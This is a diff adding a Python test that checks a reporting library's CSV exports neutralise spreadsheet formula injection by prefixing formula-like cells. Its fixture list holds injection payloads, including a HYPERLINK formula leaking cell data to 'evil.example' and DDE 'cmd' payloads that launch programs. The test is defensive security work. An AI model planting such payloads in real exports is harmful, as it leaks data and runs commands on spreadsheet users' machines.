@@ -90,3 +90,40 @@ def test_a_summary_tables_page_caption_leaves_the_provenance_line_to_the_page(tm
                      caption="Main.")._repr_html_()
     assert "accordkit 0.1.0" not in html and "Main." in html
     assert "accordkit 0.1.0" in (tmp_path / "tables" / "nb__main.md").read_text()
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_every_csv_prefixes_formula_like_text_and_keeps_numbers(tmp_path):
+    """Issue 41.5: a model name ``=HYPERLINK(...)`` reached the CSV tables raw."""
+    import csv
+
+    import matplotlib.pyplot as plt
+
+    out = ReportOutputs(tmp_path, "nb")
+    n = len(FORMULAS)
+    summary = pd.DataFrame({"agent_model": FORMULAS, "metric": ["reward"] * n,
+                            "estimate": [-0.5] * n, "ci_low": [-1.25] * n,
+                            "ci_high": [0.5] * n, "small_cell": [False] * n,
+                            "delta": ["-0.5"] * n})
+    out.table(summary, "main", rows="agent_model")
+    out.frame(summary.rename(columns={"delta": "=header"}), "plain")
+    fig, ax = plt.subplots()
+    ax.plot([0, 1], [0, 1])
+    out.figure(fig, "fig", data=summary)
+    plt.close(fig)
+    csvs = sorted(tmp_path.rglob("*.csv"))
+    assert len(csvs) == 3
+    for path in csvs:
+        with open(path, newline="", encoding="utf-8") as fh:
+            rows = list(csv.reader(fh))
+        header, body = rows[0], rows[1:]
+        assert not any(h.startswith(("=", "+", "-", "@", "\t", "\r")) for h in header)
+        cells = [c for row in body for c in row]
+        assert [row[header.index("agent_model")] for row in body] == [f"'{f}" for f in FORMULAS]
+        assert {row[header.index("estimate")] for row in body} == {"-0.5"}
+        assert {row[header.index("ci_low")] for row in body} == {"-1.25"}
+        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
+        assert [c for c in cells if c.startswith("-")] == ["-0.5", "-1.25", "-0.5"] * n
